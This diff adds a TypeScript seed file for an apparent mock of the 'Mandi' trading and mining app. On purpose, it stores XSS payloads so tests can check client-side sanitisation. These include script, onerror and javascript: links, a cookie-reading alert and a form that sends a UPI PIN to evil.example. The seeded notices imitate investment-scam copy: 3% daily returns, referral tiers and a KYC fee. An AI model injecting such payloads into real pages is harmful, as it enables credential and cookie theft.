@@ -1,0 +1,145 @@
+import type { Db } from '../db/open.ts'
+import { between, pick } from './random.ts'
+
+/**
+ * Markup a careless client would execute. It is stored and served as-is on purpose: the client must
+ * sanitise rich text, and these entries let tests prove it does.
+ */
+export const hostileHtml = [
+  '<p>Festival offer: <b>double integral</b> on every purchase this week.</p>',
+  '<script>window.__pwned = "script"</script>',
+  '<img src="x" onerror="window.__pwned = \'onerror\'">',
+  '<a href="javascript:window.__pwned = \'link\'">Claim your bonus</a>',
+  '<svg onload="window.__pwned = \'svg\'"><circle r="4"/></svg>',
+  '<iframe src="javascript:window.top.__pwned = \'iframe\'"></iframe>',
+  '<form action="https://evil.example/steal"><input name="pin" placeholder="Enter UPI PIN"></form>',
+  '<div style="background:url(javascript:alert(1))" onclick="window.__pwned = \'click\'">Tap here</div>',
+  '<object data="data:text/html,<script>alert(1)</script>"></object>',
+].join('\n')
+
+const notices: readonly [string, string, string][] = [
+  [
+    'Welcome to Mandi',
+    'Start trading goods and plans today.',
+    '<h3>Welcome!</h3><p>Deposit from <strong>₹600</strong>, buy goods and sell them when the price is right.</p><ul><li>Three-level referral rewards</li><li>Daily mining income</li></ul>',
+  ],
+  [
+    'Withdrawal hours',
+    'Withdrawals are processed Monday to Friday, 7 to 9 am.',
+    '<p>Balance withdrawals: <em>Monday to Friday, 7 to 9 am</em>. Salary withdrawals: every day, 7 to 9 am.</p><p>A 20% tax applies.</p>',
+  ],
+  ['Festival bonus', 'Double integral this week. Read the details.', hostileHtml],
+  [
+    'KYC reminder',
+    'Verify your PAN to keep withdrawals open.',
+    '<p>Complete PAN verification from <a href="#/verif">your profile</a>. The KYC fee is ₹6000.</p>',
+  ],
+  [
+    'New mining plans',
+    'Data Centre Share is now open.',
+    '<p>Lease the <b>Data Centre Share</b> for 90 days at 3% a day.</p><img src="/img/mining/6.svg" alt="plan">',
+  ],
+]
+
+const pages: readonly [string, string, string][] = [
+  ['About Mandi', '<h2>About us</h2><p>Mandi connects buyers with verified merchants across India.</p>', ''],
+  [
+    'Terms of Service',
+    '<h2>Terms</h2><ol><li>One account per person.</li><li>The same bank account can only be bound once.</li></ol>',
+    '',
+  ],
+  ['Promotion rules', hostileHtml, ''],
+  ['Mandi Blog', '<p>Opens the blog.</p>', 'https://example.com/'],
+]
+
+const signals = [
+  '<p><b>BTC/USDT</b> CALL signal, entry now, 1 minute.</p>',
+  '<p><b>ETH/USDT</b> PUT signal. <span style="color:#e11">Risk: medium</span></p>',
+  '<p>Market update: gold steady, <i>XAU/USD</i> range-bound.</p>',
+  '<p>Tonight 8 pm: live session with our analyst.</p>',
+  '<p>Signal accuracy this week: <b>82%</b>.</p>',
+  '<p>Reminder: never share your OTP. <a href="javascript:alert(document.cookie)">Report</a></p>',
+]
+
+const activities: readonly [string, string][] = [
+  ['Invite and earn', 'Invite 5 friends who deposit and earn ₹500.'],
+  ['Weekend trading race', 'Top 10 traders share ₹50,000.'],
+  ['First deposit gift', 'Get a ₹50 gift on your first deposit.'],
+  ['Mining week', 'All mining plans pay 0.2% more a day.'],
+]
+
+const firstNames = [
+  'Aarav',
+  'Vivaan',
+  'Aditya',
+  'Ishaan',
+  'Priya',
+  'Ananya',
+  'Diya',
+  'Kavya',
+  'Rohan',
+  'Sneha',
+  'Arjun',
+  'Meera',
+  'Kabir',
+  'Nisha',
+  'Rahul',
+  'Pooja',
+]
+const lastNames = ['Sharma', 'Verma', 'Patel', 'Reddy', 'Nair', 'Singh', 'Gupta', 'Iyer', 'Khan', 'Das']
+
+export function randomName(random: () => number): string {
+  return `${pick(random, firstNames)} ${pick(random, lastNames)}`
+}
+
+export function seedContent(db: Db, now: number, random: () => number): void {
+  const day = 86_400_000
+  const insertNotice = db.prepare(
+    'INSERT INTO notices (title, summary, contents, created_at) VALUES (?, ?, ?, ?)',
+  )
+  notices.forEach(([title, summary, contents], index) => {
+    insertNotice.run(title, summary, contents, now - (notices.length - index) * day)
+  })
+  const insertPage = db.prepare('INSERT INTO pages (id, title, contents, url) VALUES (?, ?, ?, ?)')
+  pages.forEach(([title, contents, url], index) => {
+    insertPage.run(index + 1, title, contents, url)
+  })
+  const insertMessage = db.prepare(
+    'INSERT INTO channel_messages (tp, title, msg, status, action, created_at) VALUES (?, ?, ?, ?, ?, ?)',
+  )
+  signals.forEach((msg, index) => {
+    insertMessage.run(0, '', msg, 0, '', now - (signals.length - index) * 3_600_000)
+  })
+  activities.forEach(([title, msg], index) => {
+    insertMessage.run(
+      1,
+      title,
+      msg,
+      index % 2,
+      index === 0 ? '/share' : '',
+      now - (activities.length - index) * day,
+    )
+  })
+  const insertRanking = db.prepare('INSERT INTO rankings (filed, name, code, score) VALUES (?, ?, ?, ?)')
+  for (const filed of ['team', 'team_month', 'invite', 'invite_moth']) {
+    const scale = filed.startsWith('team') ? 1000 : 10
+    for (let i = 0; i < 30; i++) {
+      insertRanking.run(
+        filed,
+        randomName(random),
+        String(between(random, 200000, 299999)),
+        between(random, 1, 400) * scale,
+      )
+    }
+  }
+  const insertConfig = db.prepare('INSERT INTO config (key, value) VALUES (?, ?)')
+  insertConfig.run('service', 'https://example.com/livechat')
+  insertConfig.run('payout_fee', '10')
+  insertConfig.run('trade_rate', '15')
+  insertConfig.run('support_wa', '919800000001,919800000002,919800000003')
+  insertConfig.run('support_tg', 'mandi_support')
+  const insertAdmin = db.prepare('INSERT INTO chat_admins (id, nick_name, icon) VALUES (?, ?, ?)')
+  insertAdmin.run(1, 'Support Priya', '/files/avatars/1.svg')
+  insertAdmin.run(2, 'Support Arjun', '/files/avatars/2.svg')
+  insertAdmin.run(3, 'Finance Desk', '/files/avatars/3.svg')
+}
